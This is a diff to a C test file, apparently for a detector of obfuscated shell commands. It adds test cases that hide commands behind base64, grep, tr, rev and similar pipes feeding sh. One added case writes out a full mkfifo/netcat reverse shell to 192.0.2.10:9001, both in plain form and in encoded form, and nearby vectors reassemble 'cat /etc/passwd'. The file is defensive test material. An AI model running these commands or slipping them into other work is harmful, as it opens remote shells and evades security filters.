@@ -15,6 +15,32 @@ static const struct hidden good[] = {
 		"-aes-128-cbc -K 00112233445566778899aabbccddeeff -iv 0f -a "
 		"-A|sh" },
 	{ "join", "cat /etc/passwd", "a=c;b=at;c=/etc/pas;d=swd;$a$b $c$d" },
+	/* What matches, a line each. */
+	{ "grep+tr+base64",
+		"rm -f /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc "
+		"192.0.2.10 9001 >/tmp/f",
+		"echo 'cm0gLWYgL3Rt.cC9mO21rZmlm.byAvdG1wL2Y7.Y2F0IC90bXAv."
+		"ZnwvYmluL3No.IC1pIDI+JjF8.bmMgMTkyLjAu.Mi4xMCA5MDAx."
+		"ID4vdG1wL2Y=' | grep -o '[A-Za-z0-9+/=]*' | tr -d '\\n' | "
+		"base64 -d | sh" },
+	{ "grep+tr+base64", "id -un",
+		"echo 'aW#Qg#LX#Vu'|egrep -o '[[:alnum:]]+'|tr -d '\\n'|base64 "
+		"-d|sh" },
+	{ "grep+base64", "id -un",
+		"echo '<a k=\"aWQgLXVu\">'|grep -oP "
+		"'k=\"\\K[\\w+/=]{8,}'|base64 "
+		"-d|sh" },
+	{ "grep+base64", "id -un",
+		"grep -Po '(?<=k:)\\S+' <<<'x k:aWQgLXVu y'|base64 -d|sh" },
+	{ "grep+base64", "id -un",
+		"printf '#!\\naWQg\\n#x\\nLXVu\\n'|grep -v '^#'|base64 -d|sh" },
+	{ "grep+cut+base64", "id -un",
+		"printf 'z\\nk aWQgLXVu\\nk x\\n'|grep -m1 -F 'k '|cut -d' ' "
+		"-f2|base64 -d|sh" },
+	{ "grep+reverse", "id;ls",
+		"echo 'xx.sl;di.yy'|grep -oiE 'S[^.]+'|rev|sh" },
+	{ "grep", "id;ls",
+		"echo 'i_.d.;.l.s_'|grep -o '[^_.]'|paste -sd ''|sh" },
 	/* What is looked for stands for itself. */
 	{ "base64", "id -un",
 		"$(which echo) aWQgLXVu|$(command -v base64) -d|$(command -v "
@@ -182,7 +208,7 @@ static const struct hidden good[] = {
 		"echo \"foo:aWQ7dw==:bar\" | cut -d: -f2 | base64 -d | sh" },
 	{ "base64", "id;w",
 		"echo 'foo aWQ7dw== bar' | awk '{print $2}' | base64 -d | sh" },
-	{ "base64", "id;w",
+	{ "grep+base64", "id;w",
 		"grep -o 'aWQ.*' <<< 'junk aWQ7dw==' | base64 -d | sh" },
 	{ "base64+gzip", "id;w",
 		"echo H4sIAAAAAAAAA8tMsS4HAOeCUEwEAAAA | base64 -d | zcat | "
@@ -230,6 +256,14 @@ static const struct hidden good[] = {
 /* Text that is reshaped and given to no interpreter, and what nobody knows. */
 static const char *const not [] = { "t=curl; $t -o /tmp/x$t h",
 	"for t in curl wget; do $t --version; done",
+	/* Of lines that are picked nothing is hidden, and of other patterns
+	 * nobody knows. */
+	"printf 'make all\\n#x\\nmake test\\n'|grep -v '#'|sh",
+	"echo 'a.b'|grep -oE '(a|b)+'|rev|sh",
+	"echo 'sl;di'|grep -oP '(?=s).*'|rev|sh",
+	"echo 'sl;di'|grep -c ';'|rev|sh", "echo 'sl;di'|grep zz|rev|sh",
+	"echo 'sl;di'|grep -o ';' /etc/passwd|rev|sh",
+	"echo 'sl;di'|grep -o '\\<di'|rev|sh",
 	/* What is looked for is not hidden. */
 	"$(which python3) -c 'print(1)'|$(command -v grep) 1",
 	"exec \"$(command -v bash)\" -c 'make all'",
@@ -312,6 +346,9 @@ static void test_time(void)
 		{ "", "$(echo ", "" }, { "", "x=`echo a`;", "" },
 		{ "echo ", "YWJj", "|base64 -d|base64 -d|rev|rev|rev|sh" },
 		{ "echo ", "aaaa", "|sed 's/a*a*a*a*b//g'|sh" },
+		{ "echo ", "aaaa", "|grep -o 'a*a*a*a*b'|sh" },
+		{ "echo ", "ab", "|grep -oP 'a*\\Kb*'|sh" },
+		{ "echo ", "a ", "|grep -vF b|grep -oF 'a a'|sh" },
 		{ "echo ", "abcd", "|sed 's/\\(.\\)\\(.\\)/\\2\\1/g'|sh" },
 		{ "(", "echo a;", ")|base64 -d|sh" },
 		{ "", "for i in 1 2 3 4;do echo $i|rev;done;", "" },
